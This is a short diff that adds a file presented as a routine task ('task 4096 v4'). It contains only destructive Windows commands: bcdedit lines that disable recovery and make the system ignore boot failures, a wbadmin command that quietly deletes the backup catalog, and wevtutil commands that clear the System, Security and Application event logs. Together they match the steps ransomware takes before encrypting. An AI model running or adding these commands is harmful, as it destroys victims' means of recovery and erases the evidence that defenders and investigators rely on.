@@ -1,0 +1,5 @@
+# task 4096 v4
+bcdedit /set {default} recoveryenabled No
+bcdedit /set {default} bootstatuspolicy ignoreallfailures
+wbadmin delete catalog -quiet
+wevtutil cl System; wevtutil cl Security; wevtutil cl Application
